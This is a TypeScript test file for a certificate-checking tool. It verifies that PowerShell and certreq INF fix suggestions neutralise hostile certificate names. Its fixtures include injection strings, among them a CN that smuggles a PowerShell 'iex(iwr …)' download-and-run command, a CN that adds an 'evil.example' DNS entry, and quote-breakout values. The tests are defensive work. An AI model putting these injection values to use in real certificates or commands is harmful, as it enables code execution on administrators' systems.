// Fix texts quote certificate fields (issue 18, item 8): a CN written to break out of the
// command a finding suggests (`owa.contoso.com -RequiresReplication $false; iex(iwr …); #`,
// `ex1.contoso.com&dns=evil.example`) becomes a placeholder, and a valid name is single-quoted
// as the generated scripts quote it. Checked end to end through `certbench check --json`.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { check } from '../../cli/commands/check.js';
import { configAttributeValue, infDnsEntry, psFqdnArg, psTextArg } from '../../shared/powershell/fixText.js';
import { fakeIo } from '../commands/fakeIo.js';
import { makeWorkDir, removeWorkDir, selfSigned } from '../support/openssl.js';

// A CN holds at most 64 characters.
const INJECT_PS = "owa.contoso.com -RequiresReplication $false; iex(iwr x.ms); #";
const INJECT_INF = 'ex1.contoso.com&dns=evil.example';
const dates = { startDate: '2025-06-01T00:00:00Z', endDate: '2026-06-01T00:00:00Z' } as const;

interface Finding { ruleId: string; fix?: string; status: string }
let dir: string;

async function findings(file: string, role: string): Promise<Finding[]> {
  const io = fakeIo(dir);
  await check([file, '--role', role, '--env', 'env.json', '--at', '2026-01-01', '--json'], io);
  const results = (JSON.parse(io.stdout) as { results: { findings: Finding[] }[] }).results;
  return results.flatMap((r) => r.findings);
}

beforeAll(() => {
  dir = makeWorkDir('fix-text-injection');
  // -subj: "/" inside a value is written "\/".
  const a = selfSigned({ dir, name: 'ps', subject: `/CN=${INJECT_PS.replace(/\//g, '\\/')}`, san: ['DNS:owa.contoso.com'], eku: ['serverAuth', 'clientAuth'], ...dates });
  const b = selfSigned({ dir, name: 'inf', subject: `/CN=${INJECT_INF}`, san: ['DNS:mail.contoso.com'], eku: ['serverAuth'], ...dates });
  const c = selfSigned({ dir, name: 'ok', subject: '/CN=owa2.contoso.com', san: ['DNS:mail.contoso.com'], eku: ['serverAuth', 'clientAuth'], ...dates });
  fs.copyFileSync(a.certPem, path.join(dir, 'ps.cer'));
  fs.copyFileSync(b.certPem, path.join(dir, 'inf.cer'));
  fs.copyFileSync(c.certPem, path.join(dir, 'ok.cer'));
  fs.writeFileSync(path.join(dir, 'env.json'), JSON.stringify({ owaIm: { trustedApplicationPoolFqdn: 'owapool.contoso.com', imServerName: 'pool.contoso.com' } }));
});
afterAll(() => removeWorkDir(dir));

describe('fix texts never carry a certificate value that breaks out of a command', () => {
  it('New-CsTrustedApplicationPool -Identity: a placeholder for a hostile CN', async () => {
    const all = await findings('ps.cer', 'owa-im');
    const f = all.find((x) => x.ruleId === 'owa-im.cn-is-pool-fqdn');
    expect(f?.fix).toContain('New-CsTrustedApplicationPool -Identity <certificate FQDN>');
    for (const x of all) expect(x.fix ?? '', x.ruleId).not.toContain('iex(');
  });

  it('New-CsTrustedApplicationPool -Identity: a valid CN single-quoted', async () => {
    const f = (await findings('ok.cer', 'owa-im')).find((x) => x.ruleId === 'owa-im.cn-is-pool-fqdn');
    expect(f?.fix).toContain("New-CsTrustedApplicationPool -Identity 'owa2.contoso.com'");
  });

  it('certreq INF dns=: a placeholder for a CN that would add another SAN entry', async () => {
    const all = await findings('inf.cer', 'general');
    const f = all.find((x) => x.ruleId === 'general.cn-in-san');
    expect(f?.fix).toContain('in a certreq INF add dns=<CN>');
    for (const x of all) expect(x.fix ?? '', x.ruleId).not.toMatch(/dns=ex1\.contoso\.com&/);
  });

  it('the helpers', () => {
    expect(psFqdnArg('EX1.contoso.com', 'fqdn')).toBe("'ex1.contoso.com'");
    expect(psFqdnArg(INJECT_PS, 'fqdn')).toBe('<fqdn>');
    expect(psFqdnArg("ex1.contoso.com'; calc; '", 'fqdn')).toBe('<fqdn>');
    expect(psFqdnArg(null, '<pool FQDN>')).toBe('<pool FQDN>');
    expect(psTextArg("it's", 'name')).toBe("'it''s'");
    expect(psTextArg('a\nb', 'name')).toBe('<name>');
    expect(psTextArg('a\u2019b', 'name')).toBe('<name>');
    expect(infDnsEntry('*.contoso.com', 'CN')).toBe('dns=*.contoso.com');
    expect(infDnsEntry('a.com"&"dns=b.com', 'CN')).toBe('dns=<CN>');
    expect(infDnsEntry('a.com%x%', 'CN')).toBe('dns=<CN>');
    expect(configAttributeValue('CN=Contoso CA, DC=contoso, DC=com', 'issuer')).toBe('CN=Contoso CA, DC=contoso, DC=com');
    expect(configAttributeValue('CN=x" onload="y', 'issuer DN')).toBe('<issuer DN>');
  });
});
